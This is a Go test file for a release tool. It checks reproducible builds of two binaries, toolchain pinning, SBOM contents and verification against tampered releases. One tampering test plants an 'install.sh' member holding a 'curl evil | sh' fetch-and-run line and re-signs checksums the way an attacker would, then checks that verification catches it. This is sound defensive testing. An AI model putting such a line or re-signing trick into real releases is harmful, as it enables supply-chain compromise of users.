package release

import (
	"bytes"
	"context"
	"debug/buildinfo"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/art-runtime/art/lib/exitcode"
	"github.com/art-runtime/art/lib/jsonx"
)

// binContract is the multi-main fixture's contract: two programs, one of
// them for two platforms (windows gets a .zip), an ldflag with the
// release's version, the licence and README in every archive, and
// goreleaser's checksums.txt beside SHA256SUMS.
const binContract = `{
  "apiVersion": "art/v1alpha1",
  "kind": "ReleaseContract",
  "name": "multi",
  "license": "MIT",
  "binaries": [
    {"main": "./cmd/hello", "name": "hello", "platforms": ["linux/amd64", "windows/amd64"], "ldflags": ["-s", "-w", "-X main.version={{.Version}}"]},
    {"main": "./cmd/bye", "name": "bye", "platforms": ["linux/amd64"]}
  ],
  "archive_files": ["LICENSE", "README.md"],
  "checksums_file": "checksums.txt"
}
`

// binRepo is a small module with two mains sharing a package: the fast
// fixture of the binary tests.
func binRepo(t testing.TB, contract string) *testRepo {
	t.Helper()
	r := newTestRepo(t)
	r.write("release.json", contract, 0o644)
	// bye links golang.org/x/mod (from the module cache); hello does not.
	r.write("go.mod", "module example.com/multi\n\ngo 1.26.0\n\nrequire golang.org/x/mod v0.41.0\n", 0o644)
	r.write("go.sum", "golang.org/x/mod v0.41.0 "+xModH1+"\ngolang.org/x/mod v0.41.0/go.mod h1:Ek9pY8RKWXwsWvd3rQiHYtMqkjSUV+s1Rj7j4H5Ur6o=\n", 0o644)
	r.write("LICENSE", "MIT License\n", 0o644)
	r.write("README.md", "multi\n", 0o644)
	r.write("internal/greet/greet.go", "package greet\n\nfunc Say(s string) string { return s + \"!\" }\n", 0o644)
	r.write("cmd/hello/main.go", "package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.com/multi/internal/greet\"\n)\n\nvar version = \"dev\"\n\nfunc main() { fmt.Println(greet.Say(\"hello \" + version)) }\n", 0o644)
	r.write("cmd/bye/main.go", "package main\n\nimport (\n\t\"fmt\"\n\n\t\"golang.org/x/mod/semver\"\n\n\t\"example.com/multi/internal/greet\"\n)\n\nfunc main() { fmt.Println(greet.Say(\"bye \" + semver.Major(\"v1.2.3\"))) }\n", 0o644)
	r.commit("feat: two programs")
	r.git("tag", "-a", "-m", "v1.0.0", "v1.0.0")
	return r
}

const xModH1 = "h1:qJmnOUb4YB+FsEuM3HcWucdZASCPGhsX6uljO6pog0c="

// skipWithoutGo skips when no go command is on PATH (the binary tests run
// it, as a release build does).
func skipWithoutGo(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("no go on PATH")
	}
}

// TestBinariesReproducible builds the fixture's binaries twice, the second
// time as another machine would: another clone path, HOME, GOPATH,
// temporary root, TZ, umask, locale, and a polluted GOFLAGS and go env
// file that must not leak. (The build cache stays shared here, to keep the
// test fast; scripts/release-repro.sh also varies GOCACHE, over this
// repository's own binaries.) The two release directories are identical byte
// for byte; the binaries run and carry the version; sha256sum -c passes on
// both checksum files; verify rebuilds the binaries and agrees.
func TestBinariesReproducible(t *testing.T) {
	skipWithoutGo(t)
	r := binRepo(t, binContract)
	out1, m := build(t, r.dir, "v1.0.0", true)

	// "Another machine": a second clone elsewhere, a different
	// environment for artrelease and the go command it runs.
	clone := filepath.Join(t.TempDir(), "elsewhere", "clone")
	if out, err := exec.Command("git", "clone", "-q", r.dir, clone).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	other := t.TempDir()
	for k, v := range map[string]string{
		"HOME":        filepath.Join(other, "home"),
		"GOPATH":      filepath.Join(other, "gopath"),
		"TMPDIR":      filepath.Join(other, "tmp"),
		"TZ":          "America/St_Johns",
		"LC_ALL":      "de_DE.UTF-8",
		"LANG":        "de_DE.UTF-8",
		"GOFLAGS":     "-race -ldflags=-X=main.version=leaked",
		"GOENV":       filepath.Join(other, "goenv"),
		"CGO_ENABLED": "1",
	} {
		t.Setenv(k, v)
	}
	os.MkdirAll(filepath.Join(other, "tmp"), 0o755)
	os.WriteFile(filepath.Join(other, "goenv"), []byte("GOFLAGS=-tags=leaked\nGOAMD64=v3\nCGO_ENABLED=1\n"), 0o644)
	old := syscall.Umask(0o077)
	out2, m2 := build(t, clone, "v1.0.0", true)
	syscall.Umask(old)

	a, b := readDir(t, out1), readDir(t, out2)
	if len(a) != len(b) {
		t.Fatalf("%d files vs %d", len(a), len(b))
	}
	for name, data := range a {
		if !bytes.Equal(data, b[name]) {
			t.Errorf("%s differs between the two builds", name)
		}
	}
	if m.Go == "" || m2.Go != m.Go {
		t.Errorf("toolchain %q / %q", m.Go, m2.Go)
	}
	for _, want := range []string{"multi_1.0.0_linux_amd64.tar.gz", "multi_1.0.0_windows_amd64.zip", "hello_1.0.0_linux_amd64.spdx.json",
		"bye_1.0.0_linux_amd64.spdx.json", "hello_1.0.0_windows_amd64.spdx.json", "checksums.txt"} {
		if _, ok := a[want]; !ok {
			t.Errorf("no %s in %v", want, keys(a))
		}
	}
	if !bytes.Equal(a["checksums.txt"], a[SumsName]) {
		t.Error("checksums.txt differs from SHA256SUMS")
	}
	for _, sums := range []string{SumsName, "checksums.txt"} {
		cmd := exec.Command("sha256sum", "-c", "--strict", sums)
		cmd.Dir = out1
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("sha256sum -c %s: %v\n%s", sums, err, out)
		}
	}
	// The binary runs and carries the release version, not the leaked one.
	if runtime.GOOS == "linux" && runtime.GOARCH == "amd64" {
		x := t.TempDir()
		cmd := exec.Command("tar", "-xzf", filepath.Join(out1, "multi_1.0.0_linux_amd64.tar.gz"), "-C", x)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("tar: %v %s", err, out)
		}
		got, err := exec.Command(filepath.Join(x, "hello")).Output()
		if err != nil || string(got) != "hello 1.0.0!\n" {
			t.Errorf("hello printed %q (%v)", got, err)
		}
		listing, _ := exec.Command("tar", "-tvzf", filepath.Join(out1, "multi_1.0.0_linux_amd64.tar.gz")).Output()
		if !strings.Contains(string(listing), "-rwxr-xr-x root/root") && !strings.Contains(string(listing), "-rwxr-xr-x 0/0") {
			t.Errorf("archive listing:\n%s", listing)
		}
	}
	for _, e := range os.Environ() {
		if strings.HasPrefix(e, "TMPDIR=") {
			leftovers, _ := filepath.Glob(filepath.Join(other, "tmp", "artrelease-*"))
			if len(leftovers) > 0 {
				t.Errorf("temporary directories left: %v", leftovers)
			}
		}
	}
	checkBinarySBOMs(t, out1)
	rep, err := Verify(context.Background(), VerifyOptions{Dir: out1})
	if err != nil || !rep.BinariesRebuilt {
		t.Fatalf("verify: %v %+v", err, rep)
	}
}

// TestToolchainPinRefused: a contract pinning another Go toolchain than
// the one that would run refuses the build (exit 126), naming GOTOOLCHAIN
// and writing nothing.
func TestToolchainPinRefused(t *testing.T) {
	skipWithoutGo(t)
	c := strings.Replace(binContract, `"license": "MIT",`, `"license": "MIT", "toolchain": "go1.21.0",`, 1)
	r := binRepo(t, c)
	t.Setenv("GOTOOLCHAIN", "local")
	out := filepath.Join(t.TempDir(), "dist")
	_, err := Build(context.Background(), BuildOptions{Repo: r.dir, Ref: "v1.0.0", Out: out})
	if exitcode.Of(err) != exitcode.Refused || !strings.Contains(err.Error(), "GOTOOLCHAIN=local") || !strings.Contains(err.Error(), "contract.toolchain: go1.21.0 is pinned") {
		t.Fatalf("build with a pinned go1.21.0: %v (exit %d)", err, exitcode.Of(err))
	}
	var h interface{ Hint() string }
	if !errors.As(err, &h) || !strings.Contains(h.Hint(), "GOTOOLCHAIN=go1.21.0") {
		t.Errorf("no GOTOOLCHAIN hint: %v", err)
	}
	if _, serr := os.Stat(out); !os.IsNotExist(serr) {
		t.Errorf("output written: %v", serr)
	}
}

// TestBinariesFromArchiveNotWorktree: the binaries are built from the
// release's source archive, so an uncommitted edit in the worktree (a
// changed main.go) cannot reach them.
func TestBinariesFromArchiveNotWorktree(t *testing.T) {
	skipWithoutGo(t)
	c := strings.Replace(binContract, `, "windows/amd64"`, ``, 1)
	r := binRepo(t, c)
	r.write("cmd/hello/main.go", "package main\n\nfunc main() { println(\"tampered\") }\n", 0o644)
	out, m := build(t, r.dir, "v1.0.0", false)
	var bm Manifest
	data, _ := os.ReadFile(filepath.Join(out, ManifestName))
	json.Unmarshal(data, &bm)
	if _, ok := m.Artifact(ArtifactBinaryArchive); !ok {
		t.Fatal("no binary archive")
	}
	if runtime.GOOS == "linux" && runtime.GOARCH == "amd64" {
		x := t.TempDir()
		exec.Command("tar", "-xzf", filepath.Join(out, "multi_1.0.0_linux_amd64.tar.gz"), "-C", x).Run()
		got, _ := exec.Command(filepath.Join(x, "hello")).Output()
		if string(got) != "hello 1.0.0!\n" {
			t.Errorf("hello printed %q: built from the worktree?", got)
		}
	}
}

// checkBinarySBOMs validates each binary SBOM (SPDX schema, tools-golang,
// NTIA) and compares its module set with the peer, `go version -m` on the
// same binary: bye links golang.org/x/mod, with go.sum's h1 as a go-sum-h1
// reference and no SHA256 claimed for it; hello links no module.
func checkBinarySBOMs(t *testing.T, dir string) {
	t.Helper()
	x := t.TempDir()
	if out, err := exec.Command("tar", "-xzf", filepath.Join(dir, "multi_1.0.0_linux_amd64.tar.gz"), "-C", x).CombinedOutput(); err != nil {
		t.Fatalf("tar: %v %s", err, out)
	}
	for _, bin := range []string{"hello", "bye"} {
		data, err := os.ReadFile(filepath.Join(dir, bin+"_1.0.0_linux_amd64.spdx.json"))
		if err != nil {
			t.Fatal(err)
		}
		checkSBOM(t, data)
		var doc SPDXDocument
		if err := json.Unmarshal(data, &doc); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, p := range doc.Packages[1:] {
			if p.Name == "stdlib" || p.Name == "example.com/multi" {
				continue
			}
			h1 := ""
			for _, ref := range p.ExternalRefs {
				if ref.ReferenceType == "go-sum-h1" {
					h1 = ref.ReferenceLocator
				}
			}
			if len(p.Checksums) != 0 {
				t.Errorf("%s: %s claims checksums %v", bin, p.Name, p.Checksums)
			}
			got = append(got, p.Name+" "+p.VersionInfo+" "+h1)
		}
		peer, err := exec.Command("go", "version", "-m", filepath.Join(x, bin)).Output()
		if err != nil {
			t.Fatal(err)
		}
		var want []string
		for _, line := range strings.Split(string(peer), "\n") {
			f := strings.Fields(line)
			if len(f) == 4 && f[0] == "dep" {
				want = append(want, f[1]+" "+f[2]+" "+f[3])
			}
		}
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("%s: SBOM modules\n%s\ngo version -m\n%s", bin, strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		for _, p := range doc.Packages {
			if p.Name == "golang.org/x/mod" && (p.LicenseDeclared != "BSD-3-Clause" || p.LicenseConcluded != "BSD-3-Clause") {
				t.Errorf("golang.org/x/mod licence %q/%q, want BSD-3-Clause", p.LicenseDeclared, p.LicenseConcluded)
			}
		}
		if bin == "bye" && (len(want) != 1 || !strings.Contains(want[0], xModH1)) {
			t.Errorf("bye links %v, want golang.org/x/mod", want)
		}
	}
}

// rewriteBinArchive rewrites a binary archive through edit (member name →
// bytes), in the deterministic form, and re-signs the manifest's member
// list, the archive's digest and SHA256SUMS, as an attacker with write
// access to the release directory would.
func rewriteBinArchive(t *testing.T, dir, contract, name string, edit func(map[string][]byte)) {
	t.Helper()
	var m Manifest
	data, _ := os.ReadFile(filepath.Join(dir, ManifestName))
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	mt, _ := time.Parse(time.RFC3339, m.CommitTime)
	for i, a := range m.Artifacts {
		if a.Name != name {
			continue
		}
		p, _ := ParsePlatform(a.Platform)
		files, _, err := readBinArchive(filepath.Join(dir, name), p.OS == "windows", mt, maxBinary)
		if err != nil {
			t.Fatal(err)
		}
		edit(files)
		tmp := t.TempDir()
		var members []binMember
		m.Artifacts[i].Files = nil
		for n, b := range files {
			os.WriteFile(filepath.Join(tmp, n), b, 0o644)
			mode := int64(0o644)
			isBin := n == "hello" || n == "bye" || strings.HasSuffix(n, ".exe")
			if isBin {
				mode = 0o755
			}
			members = append(members, binMember{Name: n, Mode: mode, Path: filepath.Join(tmp, n)})
			m.Artifacts[i].Files = append(m.Artifacts[i].Files, ArchiveFile{Name: n, Size: int64(len(b)), SHA256: sha256Hex(b), Binary: isBin})
		}
		slices.SortFunc(m.Artifacts[i].Files, func(a, b ArchiveFile) int { return strings.Compare(a.Name, b.Name) })
		var buf bytes.Buffer
		if err := writeBinArchive(&buf, p.OS == "windows", members, mt); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(dir, name), buf.Bytes())
		// The binaries' SBOMs, made again from the edited binaries.
		c, err := DecodeContract([]byte(contract))
		if err != nil {
			t.Fatal(err)
		}
		c.Module = "example.com/multi"
		id := &Identity{Commit: &Commit{ID: m.Commit, Tree: m.Tree, CommitterTime: mt.Unix()}, Tag: m.Tag, Version: m.Version, GoVersion: "v" + m.Version}
		for _, f := range m.Artifacts[i].Files {
			if !f.Binary {
				continue
			}
			bi, err := buildinfo.Read(bytes.NewReader(files[f.Name]))
			if err != nil {
				t.Fatal(err)
			}
			lic, _ := moduleLicenses(os.Getenv("GOMODCACHE"), bi)
			sb, err := buildBinarySBOM(binarySBOMInput{Contract: c, ID: id, Binary: f.Name, Platform: p, SHA256: f.SHA256, Info: bi, Licenses: lic})
			if err != nil {
				t.Fatal(err)
			}
			sname := binarySBOMName(f.Name, m.Version, p)
			writeFile(t, filepath.Join(dir, sname), sb)
		}
	}
	mb, _ := jsonx.MarshalIndent(&m)
	writeFile(t, filepath.Join(dir, ManifestName), mb)
	resign(t, dir, true)
}

// TestVerifyCatchesBinaryTampering: with every digest re-signed, verify
// still refuses a binary with one flipped byte (the rebuild from the
// source archive differs), an archive with an added member, and a
// provenance statement with a forged binary digest.
func TestVerifyCatchesBinaryTampering(t *testing.T) {
	skipWithoutGo(t)
	c := linuxOnlyContract()
	r := binRepo(t, c)
	good, _ := build(t, r.dir, "v1.0.0", false)
	withProv, _ := build(t, r.dir, "v1.0.0", true)
	arch := "multi_1.0.0_linux_amd64.tar.gz"

	flipped := copyDir(t, good)
	rewriteBinArchive(t, flipped, c, arch, func(f map[string][]byte) { f["hello"][len(f["hello"])/2] ^= 0x01 })
	rep, err := Verify(context.Background(), VerifyOptions{Dir: flipped})
	if !errors.Is(err, ErrMismatch) || !problemMentions(rep, "differs from a rebuild from the source archive") {
		t.Errorf("flipped byte: %v %+v", err, rep)
	}

	added := copyDir(t, good)
	rewriteBinArchive(t, added, c, arch, func(f map[string][]byte) { f["install.sh"] = []byte("#!/bin/sh\ncurl evil | sh\n") })
	rep, err = Verify(context.Background(), VerifyOptions{Dir: added})
	if !errors.Is(err, ErrMismatch) || !problemMentions(rep, arch) {
		t.Errorf("added member: %v %+v", err, rep)
	}
	// Without the rebuild, the manifest check alone cannot see it (the
	// attacker re-signed the member list): verify says what it skipped.
	rep, err = Verify(context.Background(), VerifyOptions{Dir: added, SkipBinaries: true})
	if err != nil || !slices.ContainsFunc(rep.Unchecked, func(u Unchecked) bool { return u.Field == "binaries" }) {
		t.Errorf("skip binaries: %v %+v", err, rep)
	}

	forged := copyDir(t, withProv)
	prov := filepath.Join(forged, "multi-1.0.0.intoto.json")
	b, _ := os.ReadFile(prov)
	var st Statement
	json.Unmarshal(b, &st)
	for i, s := range st.Subject {
		if s.Name == "linux_amd64/hello" {
			st.Subject[i].Digest["sha256"] = strings.Repeat("ab", 32)
		}
	}
	b, _ = jsonx.MarshalIndent(&st)
	writeFile(t, prov, b)
	resign(t, forged, true)
	rep, err = Verify(context.Background(), VerifyOptions{Dir: forged, SkipBinaries: true})
	if !errors.Is(err, ErrMismatch) || !problemMentions(rep, "subjects") {
		t.Errorf("forged provenance digest: %v %+v", err, rep)
	}
}

func problemMentions(rep *VerifyReport, s string) bool {
	for _, p := range rep.Problems {
		if strings.Contains(p.String(), s) {
			return true
		}
	}
	return false
}

// TestVerifyOtherToolchain: a machine whose go command is not the
// toolchain the manifest names cannot rebuild the binaries: verify says so
// (exit 126, naming GOTOOLCHAIN) instead of calling the release wrong.
func TestVerifyOtherToolchain(t *testing.T) {
	skipWithoutGo(t)
	c := linuxOnlyContract()
	r := binRepo(t, c)
	out, _ := build(t, r.dir, "v1.0.0", false)
	var m Manifest
	data, _ := os.ReadFile(filepath.Join(out, ManifestName))
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	m.Go = "go1.21.0"
	mb, _ := jsonx.MarshalIndent(&m)
	writeFile(t, filepath.Join(out, ManifestName), mb)
	resign(t, out, false)
	t.Setenv("GOTOOLCHAIN", "local")
	_, err := Verify(context.Background(), VerifyOptions{Dir: out})
	if exitcode.Of(err) != exitcode.Refused || !strings.Contains(err.Error(), "GOTOOLCHAIN") {
		t.Errorf("verify under another toolchain: %v (exit %d)", err, exitcode.Of(err))
	}
}

// linuxOnlyContract is binContract for linux/amd64 alone, without
// checksums.txt: the tampering tests' attacker re-signs SHA256SUMS only.
func linuxOnlyContract() string {
	c := strings.Replace(binContract, `, "windows/amd64"`, ``, 1)
	return strings.Replace(c, `,
  "checksums_file": "checksums.txt"`, ``, 1)
}

// TestVerifyBinariesDeleted: every binary archive and binary SBOM deleted,
// with the manifest and SHA256SUMS re-signed, is refused without the
// repository: the archive's contract still declares the binaries.
func TestVerifyBinariesDeleted(t *testing.T) {
	skipWithoutGo(t)
	r := binRepo(t, linuxOnlyContract())
	out, _ := build(t, r.dir, "v1.0.0", false)
	var m Manifest
	data, _ := os.ReadFile(filepath.Join(out, ManifestName))
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	m.Artifacts = slices.DeleteFunc(m.Artifacts, func(a Artifact) bool {
		if a.Kind == ArtifactBinaryArchive || a.Kind == ArtifactBinarySBOM {
			os.Remove(filepath.Join(out, a.Name))
			return true
		}
		return false
	})
	m.Go = ""
	mb, _ := jsonx.MarshalIndent(&m)
	writeFile(t, filepath.Join(out, ManifestName), mb)
	resign(t, out, false)
	rep, err := Verify(context.Background(), VerifyOptions{Dir: out})
	if !errors.Is(err, ErrMismatch) || !problemMentions(rep, "the contract declares 2 binaries") {
		t.Errorf("binaries deleted: %v %+v", err, rep)
	}
}
